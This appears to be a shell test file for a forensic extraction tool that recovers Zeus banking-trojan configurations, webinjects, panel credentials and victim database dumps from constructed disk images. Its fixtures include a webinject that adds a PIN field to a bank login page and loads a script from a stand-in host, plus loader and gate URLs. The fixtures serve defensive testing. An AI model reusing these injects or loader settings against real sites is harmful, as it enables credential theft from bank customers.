#!/bin/sh
# custody-extract and the bot-configuration extractors, end to end: a
# controller's builder config and webinjects in an ext4 image (and again
# deleted on FAT, and inside a tar.gz), found, recorded with where they
# were, and listed as targets; the key config.txt teaches is shared.
. "$CUSTODY_TOP/tests/cli/lib.sh"

C=$T/case
new_case "$C" || fail "test case created"
last() { ls -d "$C"/extractions/E001-X* | sort -V | tail -n 1; }
# bc UNIT EXPR: a Python expression over `recs`, the records of UNIT
bc() {
	"$PYTHON" -c 'import json, sys
recs = [json.loads(l) for l in open(sys.argv[1] + "/botconfigs.jsonl")]
print(eval(sys.argv[2]))' "$1" "$2"
}

mkdir -p "$T/disk/var/www/builder" "$T/disk/home/op"
cat >"$T/disk/var/www/builder/config.txt" <<'CFG'
;Build time: 14:15:23 10.04.2009 GMT
;Version: 1.3.2.1
entry "StaticConfig"
  botnet "btn-b107"
  timer_config 60 1
  url_config "http://citysvc.example/cfg/config.bin"
  encryption_key "kN9#q2!Lr"
end
entry "DynamicConfig"
  url_loader "http://citysvc.example/bot.exe"
  url_server "http://citysvc.example/gate.php"
  entry "WebFilters"
    "!*.microsoft.com/*"
    "https://www.bank.example/*"
  end
end
CFG
cat >"$T/disk/var/www/builder/webinjects.txt" <<'WI'
set_url https://www.bank.example/login* GP
data_before
<div id="login">
data_end
data_inject
<input name="atm_pin">
data_end
data_after
data_end
set_url https://*.other-bank.example/accounts/* GPLI
data_before
<body*>
data_end
data_inject
<script src="http://inject.example/a.js"></script>
data_end
data_after
data_end
WI
printf 'notes: nothing here\n' >"$T/disk/home/op/notes.txt"
(cd "$T/disk/var/www" && tar czf "$T/disk/home/op/backup.tgz" builder)
mke2fs -q -F -t ext4 -d "$T/disk" "$T/ctl.img" 16M >/dev/null 2>&1 ||
	fail "an ext4 controller disk (mke2fs -d)"

expect_exit 0 "extract the controller disk" custody-extract --case "$C" \
	--item E001 --quiet "$T/ctl.img"
X=$(last)
[ "$(bc "$X" 'sorted(set((r["extractor"], r["status"]) for r in recs))')" = \
	"[('zeus-config', 'decoded'), ('zeus-webinjects', 'decoded')]" ] &&
	ok "both families found and decoded" ||
	{ fail "both families found and decoded"; sed 's/^/#   /' "$X/botconfigs.jsonl"; }
[ "$(bc "$X" 'len(recs)')" -eq 2 ] &&
	ok "the same content in the tar.gz is one record, not two" ||
	fail "the same content in the tar.gz is one record, not two"
[ "$(bc "$X" '[r for r in recs if r["extractor"] == "zeus-config"][0]["botnet"]')" = btn-b107 ] &&
	ok "the botnet name" || fail "the botnet name"
[ "$(bc "$X" 'sorted(p["path"] for r in recs if r["extractor"] == "zeus-config" for p in r["provenance"]["places"])')" = \
	"['/home/op/backup.tgz!builder/config.txt', '/var/www/builder/config.txt']" ] &&
	ok "the provenance names both places, the archive member by its chain" ||
	{ fail "the provenance names both places"; bc "$X" '[r["provenance"] for r in recs]' | sed 's/^/#   /'; }
sha=$(sha256sum "$T/disk/var/www/builder/config.txt" | cut -d' ' -f1)
[ "$(bc "$X" '[r for r in recs if r["extractor"] == "zeus-config"][0]["provenance"]["sha256"]')" = "$sha" ] &&
	ok "the provenance gives the content's SHA-256" ||
	fail "the provenance gives the content's SHA-256"
[ -f "$X/objects/$(echo "$sha" | cut -c1-2)/$sha" ] &&
	ok "the content is kept in objects/" || fail "the content is kept in objects/"
"$PYTHON" - "$X/inventory.jsonl" <<'PY' && ok "the inventory marks it bot-config, naming its extractor" || fail "the inventory marks it bot-config"
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
cfg = [o for o in lines if o.get("path") == "/var/www/builder/config.txt"][0]
assert cfg["interest"] in ("config", "bot-config") and cfg["extractors"] == ["zeus-config"], cfg
notes = [o for o in lines if o.get("path") == "/home/op/notes.txt"][0]
assert "extractors" not in notes
bin_line = [o for o in lines if o.get("path") == "/var/www/builder/webinjects.txt"][0]
assert bin_line["extractors"] == ["zeus-webinjects"] and "object" in bin_line, bin_line
PY
grep -q '^https://www.bank.example/login\*,GP,www.bank.example,1,zeus,' "$X/targets/webinjects.csv" &&
	ok "webinjects.csv lists the target with flags, host and injects" ||
	{ fail "webinjects.csv lists the target"; sed 's/^/#   /' "$X/targets/webinjects.csv"; }
grep -q '^http://citysvc.example/gate.php,report,zeus,1,' "$X/targets/c2.csv" &&
	ok "c2.csv lists the gate as a report endpoint" ||
	{ fail "c2.csv lists the gate"; sed 's/^/#   /' "$X/targets/c2.csv"; }
"$PYTHON" -c 'import json, sys
r = json.load(open(sys.argv[1]))["botconfigs"]
assert r["enabled"] and r["records"] == 2 and r["families"] == ["zeus"], r
assert r["by_kind"] == {"config": 1, "webinjects": 1} and r["keys_learned"] == 1, r' \
	"$X/extraction.json" && ok "extraction.json counts them by family and kind" ||
	fail "extraction.json counts them by family and kind"
schemas_ok "$C" "botconfigs.jsonl matches botconfig.schema.json"
(cd "$X" && sha256sum -c SHA256SUMS >/dev/null 2>&1) &&
	ok "the unit with its records checks with sha256sum -c" ||
	fail "the unit with its records checks with sha256sum -c"

# the same disk, the same records, whatever the number of workers
expect_exit 0 "extract again on one thread" custody-extract --case "$C" \
	--item E001 --quiet --jobs 0 "$T/ctl.img"
Y=$(last)
cmp -s "$X/botconfigs.jsonl" "$Y/botconfigs.jsonl" &&
	ok "botconfigs.jsonl is byte-identical with --jobs 0" ||
	fail "botconfigs.jsonl is byte-identical with --jobs 0"

# deleted on FAT: found all the same
dd if=/dev/zero of="$T/fat.img" bs=1M count=8 2>/dev/null
mkfs.fat "$T/fat.img" >/dev/null 2>&1 &&
	mcopy -i "$T/fat.img" "$T/disk/var/www/builder/webinjects.txt" ::/inj.txt &&
	mdel -i "$T/fat.img" ::/inj.txt || fail "a FAT image with a deleted webinjects file"
expect_exit 0 "extract the FAT image" custody-extract --case "$C" --item E001 \
	--quiet "$T/fat.img"
Z=$(last)
[ "$(bc "$Z" '[(r["extractor"], r["provenance"]["places"][0]["path"].lower()) for r in recs]')" = \
	"[('zeus-webinjects', '/_nj.txt')]" ] &&
	ok "the deleted webinjects file is found on FAT" ||
	{ fail "the deleted webinjects file is found on FAT"; sed 's/^/#   /' "$Z/botconfigs.jsonl"; }

# a key in one file opens another, whichever the walk meets first
CFGBIN="$PYTHON $CUSTODY_TOP/tests/fixtures/zeus-configbin.py"
for order in bin-first txt-first; do
	rm -rf "$T/k" && mkdir -p "$T/k/a" "$T/k/b"
	if [ $order = bin-first ]; then bin=a txt=b; else bin=b txt=a; fi
	$CFGBIN 'kN9#q2!Lr' "$T/k/$bin/config.bin" http://gate.example/in.php \
		http://dl.example/bot.exe
	cp "$T/disk/var/www/builder/config.txt" "$T/k/$txt/config.txt"
	mke2fs -q -F -t ext4 -d "$T/k" "$T/k.img" 8M >/dev/null 2>&1 ||
		fail "an ext4 image ($order)"
	expect_exit 0 "extract config.bin and its key ($order)" custody-extract \
		--case "$C" --item E001 --quiet "$T/k.img"
	K=$(last)
	[ "$(bc "$K" '[(r["status"], r["key_used"]["value"], r["derived_from"][0]["path"]) for r in recs if r["extractor"] == "zeus-binstorage"]')" = \
		"[('decoded', 'kN9#q2!Lr', '/$txt/config.txt')]" ] &&
		ok "config.bin decoded with the key config.txt holds ($order)" ||
		{ fail "config.bin decoded with the key config.txt holds ($order)"; sed 's/^/#   /' "$K/botconfigs.jsonl"; }
	grep -q '^http://gate.example/in.php,report,zeus,1,' "$K/targets/c2.csv" &&
		ok "its gate is in c2.csv ($order)" || fail "its gate is in c2.csv ($order)"
done
rm -rf "$T/k" && mkdir -p "$T/k"
$CFGBIN 'hinted key' "$T/k/config.bin" http://gate2.example/in.php
mke2fs -q -F -t ext4 -d "$T/k" "$T/k.img" 8M >/dev/null 2>&1 ||
	fail "an ext4 image with config.bin alone"
expect_exit 0 "config.bin alone" custody-extract --case "$C" --item E001 \
	--quiet "$T/k.img"
[ "$(bc "$(last)" '[r["status"] for r in recs]')" = "['needs-key']" ] &&
	ok "without its key: needs-key, nothing made up" ||
	fail "without its key: needs-key, nothing made up"
expect_exit 0 "config.bin alone, with --key-hint" custody-extract --case "$C" \
	--item E001 --quiet --key-hint 'hinted key' "$T/k.img"
[ "$(bc "$(last)" '[(r["status"], r["derived_from"][0].get("given")) for r in recs]')" = \
	"[('decoded', '--key-hint')]" ] &&
	ok "with --key-hint: decoded, and the record says the key was given" ||
	{ fail "with --key-hint: decoded"; sed 's/^/#   /' "$(last)/botconfigs.jsonl"; }
expect_exit 0 "config.bin alone, with two --key-hint, the right one second" \
	custody-extract --case "$C" --item E001 --quiet --key-hint 'not the key' \
	--key-hint 'hinted key' "$T/k.img"
[ "$(bc "$(last)" '[(r["status"], r["key_used"]["value"]) for r in recs]')" = \
	"[('decoded', 'hinted key')]" ] &&
	ok "--key-hint may be repeated: each key is tried" ||
	{ fail "--key-hint may be repeated"; sed 's/^/#   /' "$(last)/botconfigs.jsonl"; }
"$PYTHON" -c 'import json, sys
p = json.load(open(sys.argv[1]))["parameters"]
assert p["key_hints"] == ["not the key", "hinted key"], p' \
	"$(last)/extraction.json" && ok "extraction.json records both keys given" ||
	fail "extraction.json records both keys given"
expect_exit 0 "config.bin alone, with a wrong --key-hint" custody-extract \
	--case "$C" --item E001 --quiet --key-hint 'not the key' "$T/k.img"
[ "$(bc "$(last)" '[r["status"] for r in recs]')" = "['wrong-key']" ] &&
	ok "with a wrong key: wrong-key, never garbage" ||
	fail "with a wrong key: wrong-key, never garbage"

# the controller side: the panel's crypt key opens config.bin, and the
# panel's database dump, gzipped inside the backup archive, gives victims
rm -rf "$T/p" && mkdir -p "$T/p/www/system" "$T/p/root"
"$PYTHON" - "$T/p/www/system/config.php" <<'PY'
import sys
key = b"panel crypt key"
s = list(range(256)); j = 0
for i in range(256):
    j = (j + s[i] + key[i % len(key)]) & 255
    s[i], s[j] = s[j], s[i]
open(sys.argv[1], "w").write("""<?php
$config['mysql_host'] = '127.0.0.1';
$config['mysql_user'] = 'zeus';
$config['mysql_pass'] = 'Zp4ss!';
$config['mysql_db'] = 'cpdb';
$config['reports_path'] = '_reports';
$config['botnet_timeout'] = 1500;
$config['botnet_cryptkey'] = 'panel crypt key';
$config['botnet_cryptkey_bs'] = array(%s);
""" % ", ".join(str(v) for v in s))
PY
$CFGBIN 'panel crypt key' "$T/p/www/config.bin" http://gate3.example/in.php
cat >"$T/p/dump.sql" <<'SQL'
-- MySQL dump 10.13  Distrib 5.0.51a, for debian-linux-gnu (i486)
CREATE TABLE `botnet_list` (
  `bot_id` varchar(100) NOT NULL,
  `botnet` varchar(20) NOT NULL,
  `country` varchar(2) NOT NULL,
  `ipv4` int(10) unsigned NOT NULL,
  `rtime_first` int(10) unsigned NOT NULL,
  `rtime_last` int(10) unsigned NOT NULL,
  PRIMARY KEY (`bot_id`)
);
INSERT INTO `botnet_list` VALUES ('PC-ALICE_1A2B','b107','US',3325256709,1300000000,1300300000),('PC-BOB_3C4D','b107','DE',3325256710,1300000100,1300300100);
CREATE TABLE `cp_users` (`name` varchar(20), `pass` varchar(32));
INSERT INTO `cp_users` VALUES ('admin','21232f297a57a5a743894a0e4a801fc3');
SQL
(cd "$T/p" && tar czf root/backup.tar.gz dump.sql &&
	gzip -c dump.sql >root/dump.sql.gz &&
	{ head -c 1024 /dev/zero; cat dump.sql; } | gzip >root/hidden.gz &&
	rm dump.sql)
mke2fs -q -F -t ext4 -d "$T/p" "$T/p.img" 16M >/dev/null 2>&1 ||
	fail "an ext4 image of a panel"
expect_exit 0 "extract the panel's disk" custody-extract --case "$C" \
	--item E001 --quiet "$T/p.img"
P=$(last)
[ "$(bc "$P" '[(r["status"], r["derived_from"][0]["path"]) for r in recs if r["extractor"] == "zeus-binstorage"]')" = \
	"[('decoded', '/www/system/config.php')]" ] &&
	ok "config.bin decoded with the panel's crypt key" ||
	{ fail "config.bin decoded with the panel's crypt key"; sed 's/^/#   /' "$P/botconfigs.jsonl"; }
[ "$(bc "$P" '[(c["service"], c["username"], c["database"]) for r in recs if r["extractor"] == "panel-php-config" for c in r["credentials"]]')" = \
	"[('mysql', 'zeus', 'cpdb')]" ] &&
	ok "the panel's database credentials" ||
	{ fail "the panel's database credentials"; sed 's/^/#   /' "$P/botconfigs.jsonl"; }
[ "$(bc "$P" 'sorted(p["path"] for r in recs if r["extractor"] == "sql-dump" for p in r["provenance"]["places"])')" = \
	"['/root/backup.tar.gz!dump.sql', '/root/dump.sql.gz!dump.sql', '/root/hidden.gz!hidden']" ] &&
	ok "the dump is read gzipped, and inside a tar.gz" ||
	{ fail "the dump is read gzipped, and inside a tar.gz"; bc "$P" '[r["provenance"] for r in recs]' | sed 's/^/#   /'; }
[ "$(bc "$P" '[p["path"] for r in recs if r["extractor"] == "sql-dump" for p in r["provenance"]["places"] if p["path"].startswith("/root/hidden.gz")]')" = \
	"['/root/hidden.gz!hidden']" ] &&
	ok "the dump behind 1 KiB of zeros, gzipped (read as an empty tar), is read too" ||
	{ fail "the dump behind 1 KiB of zeros is read too"; bc "$P" '[r["provenance"] for r in recs]' | sed 's/^/#   /'; }
grep -q '^PC-ALICE_1A2B,198.51.100.5,US,' "$P/targets/victims.csv" &&
	ok "victims.csv lists the bots, their addresses as dotted quads" ||
	{ fail "victims.csv lists the bots"; sed 's/^/#   /' "$P/targets/victims.csv"; }
schemas_ok "$C" "the panel's records match their schemas"

# choosing extractors
expect_exit 0 "--extractors zeus-webinjects" custody-extract --case "$C" \
	--item E001 --quiet --extractors zeus-webinjects "$T/ctl.img"
[ "$(bc "$(last)" 'sorted(set(r["extractor"] for r in recs))')" = "['zeus-webinjects']" ] &&
	ok "only the extractor named runs" || fail "only the extractor named runs"
expect_exit 0 "--extractors none" custody-extract --case "$C" --item E001 \
	--quiet --extractors none "$T/ctl.img"
[ ! -e "$(last)/botconfigs.jsonl" ] && ok "no extractor, no botconfigs.jsonl" ||
	fail "no extractor, no botconfigs.jsonl"
expect_exit 0 "--no-targets" custody-extract --case "$C" --item E001 \
	--quiet --no-targets "$T/ctl.img"
[ ! -e "$(last)/botconfigs.jsonl" ] &&
	ok "--no-targets: no target lists, so no extractors either" ||
	fail "--no-targets: no target lists, so no extractors either"
expect_exit 0 "--no-targets --extractors zeus-config" custody-extract \
	--case "$C" --item E001 --quiet --no-targets --extractors zeus-config \
	"$T/ctl.img"
[ "$(bc "$(last)" 'sorted(set(r["extractor"] for r in recs))')" = "['zeus-config']" ] &&
	ok "--no-targets with --extractors: the extractors named run" ||
	fail "--no-targets with --extractors: the extractors named run"
expect_exit 2 "an unknown extractor is a usage error" custody-extract \
	--case "$C" --item E001 --extractors zeus-nothing "$T/ctl.img"
expect_exit 0 "--list-extractors" custody-extract --list-extractors
contains "$T/.out" "zeus-webinjects" "the list names the extractors"
expect_exit 0 "the case verifies" custody-verify --case "$C"

echo "1..$n"
